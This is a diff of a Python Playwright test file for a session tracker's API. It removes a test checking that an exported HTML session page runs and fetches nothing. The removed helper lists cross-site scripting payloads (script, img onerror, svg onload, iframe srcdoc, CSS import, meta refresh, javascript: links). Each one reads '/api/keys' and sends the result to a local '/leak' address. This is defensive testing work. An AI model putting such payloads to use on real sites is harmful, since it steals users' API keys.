@@ -1,22 +1,18 @@
-"""A browser that is logged in: pages of other ports cannot use its cookie, and an exported session that it opens cannot reach the tracker."""
+"""A browser that is logged in: pages of other ports cannot use its cookie."""
 
 import re
 from collections.abc import Iterator
 from dataclasses import dataclass
-from datetime import UTC, datetime, timedelta
 from typing import Any
 
 import psycopg
 import pytest
-from psycopg.types.json import Jsonb
 
 from tests.browser.conftest import Api, served
 from tests.conftest import make_database
 from tests.integration.keys.conftest import make_key
-from tests.integration.query import seed
 from tests.skips import CHROMIUM, skip_without
 
-NOON = datetime(2026, 11, 20, 12, tzinfo=UTC)
 LOG_IN = """key => fetch("/api/login", {method: "POST", headers: {Authorization: `Bearer ${key}`}}).then(answer => answer.status)"""
 # What a request to the API is answered, and what a page may see of it.
 ASK = """url => fetch(url, {credentials: "include"}).then(answer => answer.status, () => "refused")"""
@@ -118,74 +114,3 @@ def test_a_page_on_another_port_cannot_use_the_cookie(logged_in: Browser, elsewh
     with psycopg.connect(logged_in.api.database_url) as connection:
         assert connection.execute("SELECT count(*) FROM api_keys").fetchone() == (1,)
         assert connection.execute("SELECT count(*) FROM import_jobs").fetchone() == (0,)
-
-
-def attacks(elsewhere: int) -> list[str]:
-    leak = f"http://127.0.0.1:{elsewhere}/leak"
-    run = f"fetch('/api/keys').then(a=>a.text()).then(t=>fetch('{leak}?'+t))"
-    return [
-        f"<script>{run}</script>",
-        f'<img src="{leak}" onerror="{run}">',
-        f'"><svg onload="{run}">',
-        f'<iframe srcdoc="<script>{run}</script>"></iframe><iframe src="/api/keys"></iframe>',
-        f'</style><style>@import "{leak}"; body {{background: url({leak})}}</style><link rel="stylesheet" href="{leak}">',
-        f'<meta http-equiv="refresh" content="0;url={leak}"><base href="{leak}">',
-        f'<form action="/api/keys" method="post"><button autofocus onfocus="{run}">x</button></form>',
-        f"[link](javascript:{run}) ![picture]({leak}) <javascript:{run}> [data](data:text/html,<script>{run}</script>)",
-        f"</title></pre></code>--></textarea><script>{run}</script>",
-    ]
-
-
-def store(database_url: str, texts: list[str]) -> None:
-    """A session with every text in every field that an export shows."""
-    everything = "\n\n".join(texts)
-    with psycopg.connect(database_url, autocommit=True, options="-c timezone=UTC") as connection:
-        project = seed.add_project(connection, f"/home/{texts[0]}")
-        user = seed.add_user(connection, texts[2])
-        named = {"title": everything, "git_branch": texts[1], "model": texts[2], "client_version": texts[0]}
-        seed.add_session(connection, "s", project, user, started_at=NOON, **named)
-        connection.execute("INSERT INTO session_marks (session_id, note) VALUES ('s', %s)", [everything])
-        for number, text in enumerate([*texts, everything]):
-            at = NOON + timedelta(seconds=10 * number)
-            seed.add_message(connection, "s", at, text)
-            seed.add_message(connection, "s", at + timedelta(seconds=1), text, role="assistant", model=texts[0])
-            parameters = {"parameters": Jsonb({"command": text, text: text, "file_path": text})}
-            seed.add_tool_call(connection, "s", at + timedelta(seconds=2), text[:150], result=text, status="error", **parameters)
-            seed.add_tool_call(connection, "s", at + timedelta(seconds=3), "Edit", result=text, **parameters)
-            seed.add_activity(connection, "s", at + timedelta(seconds=4), f"/{text}")
-        seed.compute_aggregates(connection)
-
-
-def test_an_exported_page_runs_and_fetches_nothing(logged_in: Browser, elsewhere: int) -> None:
-    store(logged_in.api.database_url, attacks(elsewhere))
-    path = "/api/sessions/s/export?format=html"
-    link = f"""() => {{ const a = Object.assign(document.createElement("a"), {{href: "{path}", target: "_blank", rel: "opener"}});
-        document.body.append(a); a.click(); }}"""
-    del logged_in.requests[:]
-    with logged_in.context.expect_page() as opened:
-        logged_in.dashboard.evaluate(link)
-    page = opened.value
-    page.wait_for_load_state("networkidle")
-
-    # It is the whole page, in its own style.
-    assert logged_in.answers(path) == [200]
-    text = page.inner_text("body")
-    assert all(each in text for each in ("<script>fetch(", "onload=", "@import", "http-equiv="))
-    assert page.evaluate("getComputedStyle(document.body).fontFamily") != "Times New Roman"
-    assert page.evaluate("document.querySelectorAll('script, iframe, img, form, link, svg, base, meta[http-equiv=refresh]').length") == 0
-    assert (
-        page.evaluate("[...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length") == 0
-    )
-    assert page.evaluate("[...document.querySelectorAll('[href]')].filter(e => !/^(https?:|#)/.test(e.getAttribute('href'))).length") == 0
-
-    # Nor could a script do anything, if one ran.
-    assert page.evaluate("self.origin") == "null"
-    assert page.evaluate("window.opener") is None
-    assert page.evaluate(ASK, f"{logged_in.base}/api/keys") == "refused"
-    assert page.evaluate(ASK, f"http://127.0.0.1:{elsewhere}/leak") == "refused"
-    assert page.evaluate("(() => { try { return document.cookie } catch (error) { return error.name } })()") == "SecurityError"
-
-    # The dashboard polls meanwhile; of this page there was one request.
-    of_page = [request.url for request in logged_in.requests if request.frame == page.main_frame]
-    assert of_page == [f"{logged_in.base}{path}"]
-    assert not any("/leak" in request.url for request in logged_in.requests)
